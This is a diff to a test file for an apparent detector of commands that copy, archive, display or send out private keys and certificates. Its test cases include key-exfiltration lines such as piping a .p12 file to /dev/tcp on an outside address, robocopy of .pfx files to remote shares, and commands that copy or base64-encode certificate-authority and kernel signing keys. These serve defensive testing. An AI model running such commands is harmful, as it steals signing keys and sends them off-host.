@@ -28,10 +28,10 @@ def found(report: Report | None) -> list[str]:
         ("xcopy C:\\Users\\*.pfx D:\\x", ["copy_key_files"]),
         ("robocopy C:\\ D:\\x *.p12 /e", ["copy_key_files", "hunt_key_files"]),
         ("robocopy C:\\work\\certs D:\\x *.p12 /e", ["copy_key_files"]),
-        ("robocopy C:\\w \\\\198.51.100.7\\in *.pfx", ["copy_key_files", "key_to_outside", "key_to_share"]),
+        ("robocopy C:\\w \\\\198.51.100.7\\in *.pfx", ["key_to_outside", "key_to_share", "upload_key_file"]),
         ("robocopy C:\\w \\\\10.0.0.7\\in *.pfx", ["copy_key_files", "key_to_bare_address", "key_to_share"]),
         # the drive of whoever is connected by remote desktop
-        ("robocopy C:\\w \\\\tsclient\\E\\in *.pfx", ["copy_key_files", "key_to_outside", "key_to_share"]),
+        ("robocopy C:\\w \\\\tsclient\\E\\in *.pfx", ["key_to_outside", "key_to_share", "upload_key_file"]),
         ("robocopy C:\\w \\\\fs01\\in *.pfx", ["copy_key_files", "key_to_share"]),
         ("copy SiPolicy.p7b C:\\Windows\\System32\\CodeIntegrity\\SiPolicy.p7b", ["code_integrity_policy"]),
         # the name of an everyday file hides no policy
@@ -314,6 +314,21 @@ def test_more_copies_and_archives(line: str, indicators: list[str]) -> None:
         ("tar czf /dev/shm/k.tgz /home/ci/.gnupg", ["archive_key_files", "output_user_writable"]),
         ("zip -r k.zip /etc/letsencrypt/archive", ["archive_key_files"]),
         ("cp -r /etc/pki/tls/private /srv", ["copy_key_files"]),
+        ("tar czf /srv/k.tgz /etc/kubernetes/pki", ["archive_key_files"]),
+        ("cp -r /var/lib/rancher/k3s/server/tls /srv", ["copy_key_files"]),
+        ("cp /etc/kubernetes/pki/ca.crt /srv", []),
+        # keys that sign for others, by their names
+        ("cp /etc/kubernetes/pki/ca.key /srv", ["authority_key", "copy_key_file"]),
+        ("cat /etc/pki/CA/private/cakey.pem", ["authority_key", "show_key_file"]),
+        ("base64 /usr/src/linux/certs/signing_key.pem", ["authority_key", "encode_key_file"]),
+        ("cat /var/lib/shim-signed/mok/MOK.priv", ["authority_key", "show_key_file"]),
+        ("cat /usr/src/linux/certs/x509.genkey", []),
+        ("cp /etc/kubernetes/pki/apiserver.key /srv", []),
+        # a connection that bash opens
+        ("cat a.p12 > /dev/tcp/203.0.113.5/443", ["key_to_outside", "upload_key_file"]),
+        ("cat a.txt > /dev/tcp/203.0.113.5/443", []),
+        # a path as it was typed
+        ("cp -R /Users/a/Library/MobileDevice/Provisioning\\ Profiles /srv", ["copy_key_files", "key_containers"]),
         ("tar czf /srv/etc.tgz /etc", []),
         ("tar czf /srv/le.tgz /etc/letsencrypt", []),
         ("cp -L /etc/letsencrypt/live/h.example/fullchain.pem /etc/nginx/", []),
